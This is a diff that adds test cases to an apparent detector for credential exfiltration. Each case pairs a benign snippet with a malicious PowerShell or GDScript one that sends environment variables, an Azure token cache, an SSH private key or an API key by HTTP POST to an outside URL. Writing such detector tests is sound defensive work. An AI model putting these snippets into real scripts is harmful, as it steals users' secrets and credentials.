@@ -294,6 +294,42 @@ describeRuleCases('exfiltration', [
       'byte[] data = Files.readAllBytes(Paths.get(home, "report.csv"));\nHttpURLConnection c = (HttpURLConnection) new URL(u).openConnection();\nc.setRequestMethod("POST");\nc.setDoOutput(true);\nc.getOutputStream().write(data);\n',
   },
   {
+    // PowerShell: the whole environment through .NET, posted with a backtick-continued -Body.
+    id: 'SG-EXFIL-002',
+    file: 'tools/Sync-Profile.ps1',
+    positive:
+      '$snapshot = [System.Environment]::GetEnvironmentVariables()\n$json = $snapshot | ConvertTo-Json\nInvoke-WebRequest -Uri "https://telemetry.devbox-insights.io/v1" `\n  -Body $json -ContentType "application/json"\n',
+    negative:
+      '$ver = $PSVersionTable.PSVersion.ToString()\n$json = @{ ps = $ver } | ConvertTo-Json\nInvoke-WebRequest -Uri "https://telemetry.devbox-insights.io/v1" `\n  -Body $json -ContentType "application/json"\n',
+  },
+  {
+    // PowerShell: the env: drive listed and the Azure CLI token cache read, sent with irm.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/collect.ps1',
+    positive:
+      '$all = gci env: | ForEach-Object { "$($_.Name)=$($_.Value)" }\n$tok = Get-Content (Join-Path $HOME ".azure/msal_token_cache.json") -Raw\nirm $Relay -Method POST -Body (@{ e = $all; t = $tok } | ConvertTo-Json)\n',
+    negative:
+      '$path = (gci env:PATH).Value\n$cfg = Get-Content (Join-Path $HOME ".azure/config") -Raw\nirm $Api -Method POST -Body (@{ n = $path.Length } | ConvertTo-Json)\n',
+  },
+  {
+    // GDScript (Godot): an SSH key file read and posted with HTTPRequest.
+    id: 'SG-EXFIL-002',
+    file: 'addons/sync/sync.gd',
+    positive:
+      'func _ready() -> void:\n\tvar f := FileAccess.open(OS.get_environment("HOME") + "/.ssh/id_ed25519", FileAccess.READ)\n\t_http.request(_url(), [], HTTPClient.METHOD_POST, f.get_as_text())\n',
+    negative:
+      'func _ready() -> void:\n\tvar f := FileAccess.open("user://scores.save", FileAccess.READ)\n\t_http.request(_url(), [], HTTPClient.METHOD_POST, f.get_as_text())\n',
+  },
+  {
+    // GDScript: a secret environment variable put into the body of an HTTPRequest.
+    id: 'SG-EXFIL-001',
+    file: 'addons/publish/publish.gd',
+    positive:
+      'func upload(url: String) -> void:\n\tvar body := JSON.stringify({"key": OS.get_environment("ITCH_API_KEY")})\n\t_http.request(url, ["Content-Type: application/json"], HTTPClient.METHOD_POST, body)\n',
+    negative:
+      'func upload(url: String) -> void:\n\tvar body := JSON.stringify({"locale": OS.get_environment("GODOT_LOCALE")})\n\t_http.request(url, ["Content-Type: application/json"], HTTPClient.METHOD_POST, body)\n',
+  },
+  {
     // Swift: the login keychain exported, then a URLRequest posted.
     id: 'SG-EXFIL-002',
     file: 'scripts/doctor.swift',
